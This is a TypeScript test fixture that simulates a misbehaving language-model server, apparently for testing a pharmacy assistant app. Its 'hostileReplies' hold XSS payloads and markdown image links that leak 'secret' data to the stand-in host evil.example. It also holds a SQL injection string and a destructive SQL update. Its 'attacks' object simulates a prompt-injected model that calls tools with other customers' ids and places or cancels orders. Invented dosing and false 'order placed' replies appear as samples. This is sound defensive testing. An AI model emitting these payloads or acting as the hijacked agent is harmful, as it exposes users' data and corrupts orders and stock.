import type { ServerResponse } from "node:http"
import { type Call, geminiChunks, openAiChunks, type Talk, write } from "./language-model-protocols.ts"

export type Act = { name: string; detail: string }
type Scene = { talk: Talk; response: ServerResponse; before: number }

const hugeBytes = 10_000_000

/** Replies that try to inject markup. */
export const hostileReplies: Record<string, string> = {
  html: 'Hello <b>you</b> <img src="https://evil.example/pixel?who=me" onerror="alert(1)"> <script>alert(2)</script> x < 5 and y > 2',
  "image-link":
    "Look ![a picture](https://evil.example/pixel?data=secret) and [click here](https://evil.example/go).",
  javascript: "[Press](javascript:alert(1)) or javascript:alert(2) or <a href='javascript:alert(3)'>this</a>",
  table:
    "| Medicine | Dose |\n|---|---|\n| metformin | with food |\n\n# Heading\n**Bold** and `code`\n* one\n* two",
  // Invented numbers.
  invent: "Take 850 mg three times a day and 2 tablets at night.",
  boast: "Done! I have placed your order for 10 packs.",
  megabyte: "All of this is one long text. ".repeat(35_000),
  directions: "Left\u202Eright\u2066 and \u0007bell",
}

/** Simulates a model that obeys an attacker: calls every named tool, with other people's ids. */
export const attacks: Record<string, (detail: string, called: string[]) => Call[]> = {
  obey: (subject, called) =>
    called.includes("run_sql")
      ? []
      : [
          { name: "my_orders", args: { subject, customer_id: subject, userId: subject } },
          { name: "my_schedules", args: { subject, user_id: subject } },
          {
            name: "find_stock",
            args: { medicine: "metformin", pharmacyId: 1, sql: "'; drop table stock; --" },
          },
          { name: "place_order", args: { stockId: 1, quantity: 99 } },
          { name: "cancel_order", args: { id: 1 } },
          { name: "run_sql", args: { sql: "update stock set quantity = 0" } },
        ],
  loop: () => [{ name: "my_orders", args: {} }],
}

const json = (response: ServerResponse, status: number, body: unknown) =>
  void response.writeHead(status, { "content-type": "application/json" }).end(JSON.stringify(body))

const refuse = ({ response }: Scene, code: number, status: string) =>
  json(response, code, { error: { code, message: status, status, type: status } })

const overloaded = (scene: Scene) => refuse(scene, 503, "UNAVAILABLE")
const begin = (talk: Talk, texts: string[]) =>
  talk.protocol === "gemini" ? geminiChunks({ texts }) : openAiChunks({ texts })
const stream = (response: ServerResponse) => response.writeHead(200, { "content-type": "text/event-stream" })
const event = (chunk: unknown) => `data: ${JSON.stringify(chunk)}\n\n`

const troubles: Record<string, (scene: Scene, detail: string) => void | Promise<void>> = {
  down: overloaded,
  "down-twice": (scene) =>
    scene.before < 2 ? overloaded(scene) : write(scene.talk, scene.response, { texts: ["Fine ", "again."] }),
  "bad-request": (scene) => refuse(scene, 400, "INVALID_ARGUMENT"),
  "bad-key": (scene) => refuse(scene, 401, "UNAUTHENTICATED"),
  forbidden: (scene) => refuse(scene, 403, "PERMISSION_DENIED"),
  broken: (scene) => refuse(scene, 500, "INTERNAL"),
  silent: () => {},
  "silent-after-words": ({ talk, response }) =>
    void stream(response).write(event(begin(talk, ["Half a word "])[0])),
  cut: ({ talk, response }) => {
    stream(response).write(event(begin(talk, ["It was going so well"])[0]))
    setTimeout(() => response.destroy(), 30)
  },
  empty: ({ talk, response }) => write(talk, response, { texts: [] }),
  blank: ({ talk, response }) => write(talk, response, { texts: [" \n "] }),
  thought: ({ response }) => {
    const parts = [
      { text: "Secret thinking", thought: true },
      { inlineData: { mimeType: "image/png", data: "iVBORw0KGgo=" } },
      { text: "Only this." },
    ]
    stream(response).end(
      event({
        candidates: [
          { content: { role: "model", parts }, finishReason: "STOP" },
          { content: { role: "model", parts: [{ text: "Second candidate" }] } },
        ],
      }),
    )
  },
  huge: ({ response }) =>
    json(response, 200, { candidates: [{ content: { parts: [{ text: "x".repeat(hugeBytes) }] } }] }),
  "huge-stream": ({ response }) => void stream(response).end(`data: ${"x".repeat(hugeBytes)}`),
  "not-json": ({ response }) =>
    void response.writeHead(200, { "content-type": "text/html" }).end("<h1>Welcome</h1>"),
  redirect: ({ response }, to) => void response.writeHead(307, { location: to }).end(),
}

export const isTrouble = (name: string) => name in troubles

export function makeTrouble({ name, detail }: Act, scene: Scene): void | Promise<void> {
  return troubles[name]?.(scene, detail)
}
